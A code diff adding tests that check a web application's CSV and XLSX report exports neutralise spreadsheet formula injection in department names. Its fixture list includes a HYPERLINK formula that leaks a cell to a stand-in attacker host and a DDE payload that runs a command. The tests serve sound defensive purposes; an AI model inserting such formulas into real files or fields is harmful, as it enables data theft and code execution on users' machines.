@@ -99,3 +99,39 @@ def test_the_administrator_names_the_head_of_supervision(client, auth, db_sessio
     assert client.post("/supervision/head", data={"user": str(supervisor_id)}).status_code == 302
     db_session.expire_all()
     assert settings.get(db_session, "supervision.head_user_id") == supervisor_id
+
+
+FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+            "\t=1", "\r=1")
+
+
+def test_exports_carry_no_formula_whatever_a_name_holds(client, auth, kept_october, db_session):
+    """A department named like a formula: the CSV cell starts with a quote, the XLSX cell is text, not a formula."""
+    from workflows.store.models import Department
+
+    departments = db_session.scalars(select(Department).order_by(Department.id)).all()[:len(FORMULAS)]
+    for department, formula in zip(departments, FORMULAS):
+        department.name = formula
+    db_session.commit()
+    auth.login("supervisor")
+    period = "/supervision/reports/period?start=2026-10-01&end=2026-10-31&format="
+    import csv
+
+    cells = [cell for row in csv.reader(io.StringIO(client.get(period + "csv").data.decode("utf-8-sig")))
+             for cell in row]
+    for formula in FORMULAS:
+        assert "'" + formula in cells and formula not in cells, formula
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    workbook = load_workbook(io.BytesIO(client.get(period + "xlsx").data))
+    sheet = workbook.active
+    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert not [cell.coordinate for cell in texts if cell.data_type == "f" or cell.value.startswith("=")]
+    for formula in FORMULAS:  # (XML reads a carriage return back as a line feed)
+        assert "'" + formula.replace("\r", "\n") in [cell.value for cell in texts], formula
+
+
+def test_neutral_leaves_numbers_and_plain_text_alone():
+    from workflows.services.supervision.report_files import neutral
+
+    assert neutral(-3) == -3 and neutral(0.5) == 0.5 and neutral(None) is None
+    assert neutral("珠海市市场监督管理局") == "珠海市市场监督管理局" and neutral("=1") == "'=1"
